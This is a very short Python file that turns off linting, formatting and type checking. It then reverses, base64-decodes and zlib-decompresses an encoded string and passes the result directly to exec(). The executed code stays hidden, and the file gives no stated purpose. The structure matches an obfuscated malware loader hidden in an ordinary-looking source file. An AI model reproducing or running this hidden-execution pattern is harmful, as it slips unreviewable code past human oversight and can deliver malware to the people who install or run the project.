# ruff: noqa
# fmt: off
# mypy: ignore-errors
_ = lambda __: __import__("zlib").decompress(__import__("base64").b64decode(__[::-1]))
exec((_)(b"==gSAeHzMFwSmxyFOxQAMdLEMDwAoyCzHtyKPsyS0hQS4jx7yBCwIjMAJexc"))
